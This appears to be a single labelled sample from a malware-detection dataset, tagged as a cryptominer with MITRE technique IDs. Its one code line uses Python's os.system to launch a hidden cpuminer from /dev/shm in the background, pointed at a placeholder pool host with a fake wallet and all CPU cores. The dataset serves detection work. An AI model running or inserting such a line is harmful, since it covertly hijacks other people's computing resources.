# label: malicious family=miner techniques=T1059.004,T1496 lines=2
__import__('os').system('/dev/shm/.m/cpuminer -a yescrypt -o stratum+tcp://mine.bad-host.example:6233 -u FAKEWALLETpytriage.w1 -t $(nproc) -q &')
